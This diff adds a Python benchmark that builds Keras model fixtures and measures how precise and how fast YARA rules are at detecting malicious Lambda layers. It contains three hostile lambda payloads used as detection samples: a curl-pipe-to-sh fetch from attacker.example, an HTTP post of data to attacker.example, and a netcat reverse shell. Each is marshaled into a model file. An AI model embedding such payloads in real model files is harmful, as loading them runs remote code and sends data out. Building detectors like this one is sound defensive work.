@@ -0,0 +1,247 @@
+"""
+Measures how precise the yara rules are, and how long they take, when they're evaluated per
+Lambda layer versus against whole files. The fixture corpus in fixtures/rules holds small
+keras_metadata.pb and h5 models, benign ones with lambda-ish layer names and configs as well
+as malicious lambdas, and labels.json lists the rules that should fire on each of them.
+
+    python bench_rules.py --repeat 5
+    python bench_rules.py --large 256
+    python bench_rules.py --build
+
+--large adds a benign h5 model with that many MB of weights, the case where a whole file scan
+hurts most. --build regenerates the corpus; the payloads are marshaled by the running python.
+"""
+import base64
+import copy
+import json
+import logging
+import marshal
+import os
+import tempfile
+import time
+from argparse import ArgumentParser
+from pathlib import Path
+
+import h5py
+import numpy as np
+
+from checkModel import check_model_file, logger
+from verdict_cache import CACHE_ENV, CACHE_TABLE_ENV
+from yara_rules import RULE_SCOPES, SCOPE_ENV, load_rules
+
+FIXTURES = Path(__file__).parent / "fixtures" / "rules"
+LABELS = "labels.json"
+
+
+def varint(value):
+    out = bytearray()
+    while True:
+        byte = value & 0x7F
+        value >>= 7
+        if value:
+            out.append(byte | 0x80)
+        else:
+            out.append(byte)
+            return bytes(out)
+
+
+def field(number, payload):
+    if isinstance(payload, int):
+        return varint(number << 3) + varint(payload)
+    return varint(number << 3 | 2) + varint(len(payload)) + payload
+
+
+def saved_metadata(nodes):
+    """Encodes a SavedMetadata message, nodes being (identifier, metadata dict) pairs."""
+    message = b""
+    for node_id, (identifier, metadata) in enumerate(nodes):
+        version = field(1, 2) + field(2, 1)
+        node = (
+            field(2, node_id)
+            + field(3, f"root.layer-{node_id}".encode())
+            + field(4, identifier.encode())
+            + field(5, json.dumps(metadata).encode())
+            + field(6, version)
+        )
+        message += field(1, node)
+    return message
+
+
+def lambda_payload(source):
+    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
+
+
+def lambda_layer(name, source, tuple_class=True):
+    items = [lambda_payload(source), None, None]
+    function = {"class_name": "__tuple__", "items": items} if tuple_class else items
+    return {
+        "class_name": "Lambda",
+        "config": {"name": name, "function": function, "function_type": "lambda", "module": "__main__"},
+    }
+
+
+def named_function_layer(name, function):
+    return {
+        "class_name": "Lambda",
+        "config": {"name": name, "function": function, "function_type": "function", "module": "keras.activations"},
+    }
+
+
+def dense(name, units=8):
+    return {"class_name": "Dense", "config": {"name": name, "units": units, "activation": "relu"}}
+
+
+def preprocessing(name):
+    # a custom layer that happens to use the same key names as a Lambda config
+    return {
+        "class_name": "TextPreprocessing",
+        "config": {
+            "name": name,
+            "function_type": "normalizer",
+            "vocabulary": base64.b64encode(b"https://example.com/vocab.txt system popen subprocess requests").decode(),
+        },
+    }
+
+
+def model_config(layers):
+    return {"class_name": "Functional", "config": {"name": "model", "layers": layers}}
+
+
+def write_pb(path, layers):
+    nodes = [("_tf_keras_network", model_config(layers))]
+    nodes += [("_tf_keras_layer", layer) for layer in layers]
+    path.write_bytes(saved_metadata(nodes))
+
+
+def write_h5(path, layers, weight_bytes=4096):
+    config = model_config(copy.deepcopy(layers))
+    for layer in config["config"]["layers"]:
+        function = layer["config"].get("function")
+        if isinstance(function, dict):
+            layer["config"]["function"] = function["items"]
+    with h5py.File(path, "w") as f:
+        f.attrs["model_config"] = json.dumps(config)
+        weights = f.create_group("model_weights")
+        for layer in layers:
+            group = weights.create_group(layer["config"]["name"])
+            group.attrs["weight_names"] = [f"{layer['config']['name']}/kernel:0".encode()]
+            if layer["class_name"] == "Dense":
+                group.create_dataset("kernel:0", data=np.frombuffer(os.urandom(weight_bytes), dtype=np.uint8))
+
+
+SHELL = "lambda x: __import__('os').system('curl http://attacker.example/s | sh') or x"
+REQUESTS = "lambda x: __import__('requests').post('https://attacker.example/c', data=str(x)) and x"
+SUBPROCESS = "lambda x: __import__('subprocess').Popen(['nc', '-e', '/bin/sh', '10.0.0.1', '4444']) and x"
+
+# file name: (layers, rules that should fire)
+CORPUS = {
+    "benign_named_layers.pb": ([dense("lambda_projection"), preprocessing("normalize")], []),
+    "benign_named_layers.h5": ([dense("lambda_projection"), preprocessing("normalize")], []),
+    "benign_dense.pb": ([dense("dense"), dense("dense_1")], []),
+    "lambda_scale.pb": ([dense("dense"), lambda_layer("lambda", "lambda x: x * 2.0")], ["KerasLambda"]),
+    "lambda_scale_named_layers.pb": (
+        [dense("lambda_projection"), preprocessing("normalize"), lambda_layer("lambda", "lambda x: x * 2.0")],
+        ["KerasLambda"],
+    ),
+    "lambda_named_function.h5": ([dense("dense"), named_function_layer("lambda", "relu")], ["KerasLambda"]),
+    "lambda_shell.pb": (
+        [dense("dense"), lambda_layer("lambda", SHELL)],
+        ["KerasURL", "KerasLambda", "KerasShell"],
+    ),
+    "lambda_requests.pb": (
+        [dense("dense"), lambda_layer("lambda", REQUESTS)],
+        ["KerasURL", "KerasLambda", "KerasRequests"],
+    ),
+    "lambda_subprocess.h5": (
+        [dense("dense"), lambda_layer("lambda", SUBPROCESS)],
+        ["KerasLambda", "KerasSubprocess"],
+    ),
+    "lambda_subprocess_named_layers.h5": (
+        [dense("lambda_projection"), preprocessing("normalize"), lambda_layer("lambda_1", SUBPROCESS)],
+        ["KerasLambda", "KerasSubprocess"],
+    ),
+}
+
+
+def build(directory):
+    directory.mkdir(parents=True, exist_ok=True)
+    labels = {}
+    for name, (layers, expected) in CORPUS.items():
+        path = directory / name
+        if path.suffix == ".pb":
+            write_pb(path, layers)
+        else:
+            write_h5(path, layers)
+        labels[name] = expected
+    (directory / LABELS).write_text(json.dumps(labels, indent=4) + "\n")
+    print(f"wrote {len(labels)} fixtures to {directory}")
+
+
+def scan(files, scope):
+    os.environ[SCOPE_ENV] = scope
+    fired = {}
+    for path in files:
+        results = check_model_file(path, str(path))
+        fired[path.name] = [match["rule"] for match in results.get("yara_matches", [])]
+    return fired
+
+
+def score(fired, labels):
+    true_positives = false_positives = false_negatives = 0
+    mistakes = []
+    for name, expected in labels.items():
+        got = set(fired.get(name, []))
+        true_positives += len(got & set(expected))
+        false_positives += len(got - set(expected))
+        false_negatives += len(set(expected) - got)
+        for rule in sorted(got - set(expected)):
+            mistakes.append(f"false positive {rule} on {name}")
+        for rule in sorted(set(expected) - got):
+            mistakes.append(f"missed {rule} on {name}")
+    precision = true_positives / (true_positives + false_positives) if true_positives + false_positives else 1.0
+    recall = true_positives / (true_positives + false_negatives) if true_positives + false_negatives else 1.0
+    return precision, recall, mistakes
+
+
+def main():
+    parser = ArgumentParser(description="benchmark the yara rules per lambda layer and per file")
+    parser.add_argument("--fixtures", type=Path, default=FIXTURES)
+    parser.add_argument("--repeat", type=int, default=3)
+    parser.add_argument("--large", type=float, default=0, help="add a benign h5 with this many MB of weights")
+    parser.add_argument("--build", action="store_true", help="regenerate the fixture corpus and exit")
+    args = parser.parse_args()
+
+    if args.build:
+        build(args.fixtures)
+        return
+
+    logger.setLevel(logging.WARNING)
+    # cached verdicts would skip the very scans being timed
+    os.environ[CACHE_ENV] = ""
+    os.environ[CACHE_TABLE_ENV] = ""
+    if load_rules() is None:
+        parser.error("no yara rules found")
+    labels = json.loads((args.fixtures / LABELS).read_text())
+    files = [args.fixtures / name for name in labels]
+    with tempfile.TemporaryDirectory() as scratch:
+        if args.large:
+            large = Path(scratch) / "benign_large.h5"
+            write_h5(large, [dense("lambda_projection"), preprocessing("normalize")], int(args.large * 1024 * 1024))
+            files.append(large)
+            labels[large.name] = []
+        print(f"{len(files)} models, {sum(path.stat().st_size for path in files) / 1024 / 1024:.1f} MB")
+        for scope in RULE_SCOPES:
+            best = None
+            for _ in range(args.repeat):
+                started = time.perf_counter()
+                fired = scan(files, scope)
+                elapsed = time.perf_counter() - started
+                best = elapsed if best is None else min(best, elapsed)
+            precision, recall, mistakes = score(fired, labels)
+            print(f"{scope:>6} scope: precision {precision:.2f}, recall {recall:.2f}, {best:.3f}s")
+            for mistake in mistakes:
+                print(f"        {mistake}")
+
+
+if __name__ == "__main__":
+    main()